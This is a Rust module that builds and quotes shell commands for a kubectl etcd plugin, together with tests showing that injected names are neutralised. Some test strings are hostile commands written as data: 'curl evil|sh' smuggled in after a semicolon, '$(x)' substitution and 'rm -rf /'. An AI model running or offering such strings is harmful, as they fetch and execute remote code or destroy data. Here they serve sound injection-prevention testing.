//! Commands that people copy into a shell, with names in them that others chose.

use std::fmt;

use shlex::Quoter;

/// A command for a POSIX shell. What is in its text without quotes is this program's own; everything else is one word, in
/// quotes where it has to be.
///
/// A word that begins with `-` would be taken for a flag: it comes last, behind `--`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct CommandLine {
    /// Commands before this one, and what joins them to it.
    before: String,
    parts: Vec<Part>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    Own(&'static str),
    Option(&'static str, String),
    Operand(String),
}

impl CommandLine {
    /// A command, as far as it is this program's own text.
    pub fn new(text: &'static str) -> Self {
        Self::default().own(text)
    }

    /// A command of a program that somebody else wrote down: what a shell takes for its words, each in quotes again. None: it is
    /// another program's.
    pub fn of_program(program: &[&str], text: &str) -> Option<Self> {
        let words = shlex::split(text)?;
        let is_own = words.len() >= program.len()
            && program.iter().zip(&words).all(|(one, other)| one == other);
        is_own.then(|| Self {
            before: words
                .iter()
                .map(|word| quoted(word))
                .collect::<Vec<_>>()
                .join(" "),
            parts: Vec::new(),
        })
    }

    /// Flags alone, to be put behind commands with [`Self::with`].
    pub fn flags() -> Self {
        Self::default()
    }

    /// More of this program's own text.
    #[must_use]
    pub fn own(mut self, text: &'static str) -> Self {
        self.parts.push(Part::Own(text));
        self
    }

    /// A word that is not a flag.
    #[must_use]
    pub fn operand(mut self, word: impl fmt::Display) -> Self {
        self.parts.push(Part::Operand(word.to_string()));
        self
    }

    /// A flag with its value.
    #[must_use]
    pub fn option(mut self, flag: &'static str, value: impl fmt::Display) -> Self {
        self.parts.push(Part::Option(flag, value.to_string()));
        self
    }

    /// The flags of another one behind this one's own.
    #[must_use]
    pub fn with(mut self, flags: &Self) -> Self {
        self.parts.extend(flags.parts.iter().cloned());
        self
    }

    /// What this program has to say behind a whole command: a redirection, a pipe.
    #[must_use]
    pub fn then(self, text: &'static str) -> Self {
        Self {
            before: format!("{self} {text}"),
            parts: Vec::new(),
        }
    }

    /// Another command, which runs when this one has succeeded.
    #[must_use]
    pub fn and(self, next: &Self) -> Self {
        self.then("&&").then_command(next)
    }

    fn then_command(self, next: &Self) -> Self {
        Self {
            before: format!("{} {next}", self.before),
            parts: Vec::new(),
        }
    }

    /// Whether it is nothing.
    pub fn is_empty(&self) -> bool {
        self.before.is_empty() && self.parts.is_empty()
    }

    fn words(&self) -> Vec<String> {
        let is_operand = |part: &&Part| matches!(part, Part::Operand(_));
        let (operands, flags): (Vec<&Part>, Vec<&Part>) = self.parts.iter().partition(is_operand);
        if !operands.iter().any(|part| part.looks_like_a_flag()) {
            return self.parts.iter().map(Part::text).collect();
        }
        let flags = flags.into_iter().map(Part::text);
        let operands = operands.into_iter().map(Part::text);
        flags.chain(["--".to_owned()]).chain(operands).collect()
    }
}

impl Part {
    fn looks_like_a_flag(&self) -> bool {
        matches!(self, Self::Operand(word) if word.starts_with('-'))
    }

    fn text(&self) -> String {
        match self {
            Self::Own(text) => (*text).to_owned(),
            Self::Operand(word) => quoted(word),
            Self::Option(flag, value) if value.starts_with('-') => {
                format!("{flag}={}", quoted(value))
            }
            Self::Option(flag, value) => format!("{flag} {}", quoted(value)),
        }
    }
}

impl fmt::Display for CommandLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.before)?;
        for (at, word) in self.words().into_iter().enumerate() {
            if at > 0 || !self.before.is_empty() {
                f.write_str(" ")?;
            }
            f.write_str(&word)?;
        }
        Ok(())
    }
}

impl From<&'static str> for CommandLine {
    fn from(text: &'static str) -> Self {
        Self::new(text)
    }
}

impl From<CommandLine> for String {
    fn from(command: CommandLine) -> Self {
        command.to_string()
    }
}

/// A word as a POSIX shell takes it for one; as it is where nothing in it means anything to a shell.
pub fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    // What begins with `=` is a command's path to zsh.
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        return word.to_owned();
    }
    let quoter = Quoter::new().allow_nul(true);
    let quoted = quoter.quote(word).map(String::from);
    quoted.unwrap_or_else(|_| "''".to_owned())
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use proptest::prelude::*;

    use super::*;

    #[test]
    fn plain_words_stay_as_they_are() {
        let command = CommandLine::new("kubectl etcd member replace")
            .operand("cp-1")
            .option("--ssh", "cp-1=root@10.0.0.1")
            .option("--ssh", "cp-2=ssh://root@m2:22");
        assert_eq!(
            command.to_string(),
            "kubectl etcd member replace cp-1 --ssh cp-1=root@10.0.0.1 --ssh cp-2=ssh://root@m2:22"
        );
        assert_eq!(
            quoted("/var/lib/etcd-2026-11-21T210000Z_2"),
            "/var/lib/etcd-2026-11-21T210000Z_2"
        );
        assert_eq!(
            quoted("registry.k8s.io/etcd:3.6.6-0"),
            "registry.k8s.io/etcd:3.6.6-0"
        );
    }

    #[test]
    fn names_that_mean_something_to_a_shell_are_one_word() {
        let command = CommandLine::new("kubectl etcd member replace")
            .operand("m3;curl evil|sh")
            .own("--ssh");
        assert_eq!(
            command.to_string(),
            "kubectl etcd member replace 'm3;curl evil|sh' --ssh"
        );
        let moved = CommandLine::new("mkdir -p")
            .operand("/a b")
            .and(&CommandLine::new("mv -n").operand("/x").operand("/a b/"));
        assert_eq!(moved.to_string(), "mkdir -p '/a b' && mv -n /x '/a b/'");
        assert_eq!(
            moved.then("| tail -20").to_string(),
            "mkdir -p '/a b' && mv -n /x '/a b/' | tail -20"
        );
    }

    #[test]
    fn a_name_that_looks_like_a_flag_is_none() {
        let command = CommandLine::new("kubectl etcd member replace")
            .operand("--yes")
            .option("--ssh-user", "-x")
            .own("--ssh");
        assert_eq!(
            command.to_string(),
            "kubectl etcd member replace --ssh-user=-x --ssh -- --yes"
        );
    }

    #[test]
    fn a_command_of_somebody_elses_plan_is_this_programs_or_none() {
        let own = |text| {
            CommandLine::of_program(&["kubectl", "etcd"], text).map(|command| command.to_string())
        };
        let stop =
            "kubectl etcd member replace 'a b' --this-node-only --endpoint https://10.0.0.1:2379";
        assert_eq!(own(stop).as_deref(), Some(stop));
        assert_eq!(
            own("kubectl etcd status; curl evil|sh").as_deref(),
            Some("kubectl etcd 'status;' curl 'evil|sh'")
        );
        assert_eq!(
            own("kubectl etcd $(x)").as_deref(),
            Some("kubectl etcd '$(x)'")
        );
        for other in [
            "",
            "rm -rf /",
            "kubectl delete ns x",
            "x; kubectl etcd status",
            "kubectl etcd 'open",
        ] {
            assert_eq!(own(other), None, "{other}");
        }
    }

    #[test]
    fn flags_go_behind_a_command() {
        let flags = CommandLine::flags()
            .own("--ssh")
            .option("--ssh-config", "/a b");
        let command = CommandLine::new("kubectl etcd plan resume")
            .operand("one")
            .with(&flags);
        assert_eq!(
            command.to_string(),
            "kubectl etcd plan resume one --ssh --ssh-config '/a b'"
        );
        let none = CommandLine::flags();
        assert!(none.is_empty());
        assert_eq!(CommandLine::new("x").with(&none).to_string(), "x");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        #[test]
        fn a_shell_sees_the_words_that_were_meant(words in prop::collection::vec("|[^\u{0}-][^\u{0}]{0,12}", 1..4)) {
            let command = words.iter().fold(CommandLine::new("printf '%s\\0'"), |command, word| command.operand(word));
            let output = Command::new("sh").arg("-c").arg(command.to_string()).output().unwrap();
            let seen: Vec<String> = String::from_utf8(output.stdout).unwrap().split_terminator('\0').map(str::to_owned).collect();
            prop_assert_eq!(seen, words, "{}", command);
        }
    }
}
